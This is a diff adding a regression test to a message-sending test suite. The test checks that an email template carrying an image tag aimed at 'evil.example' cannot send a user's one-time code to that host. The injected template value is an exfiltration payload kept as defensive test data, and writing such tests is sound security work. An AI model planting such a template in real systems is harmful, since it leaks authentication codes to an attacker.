@@ -123,6 +123,19 @@ describe('a message', () => {
     expect(await events('MESSAGE_QUEUED')).toMatchObject([{ subject: { id: userId } }]);
   });
 
+  test('of an older release’s template says its code to its reader and to no other host', async () => {
+    await byMail();
+    await server.pool.query(
+      `update message_template set html = true, content = $2
+       where realm_id = $1 and template_key = 'otp-email' and locale = 'en'`,
+      [realm, '<p>{{code}}</p><img src="https://evil.example/?{{code}}">'],
+    );
+    await code();
+    await settled('sent');
+    const [{ raw } = { raw: '' }] = mail.mails;
+    expect(raw).toContain(`<p>${CODE}</p><img src="https://evil.example/?">`);
+  });
+
   test('is sealed while it waits', async () => {
     await bySms();
     receiver.answer = () => ({ afterMs: 3_000 });
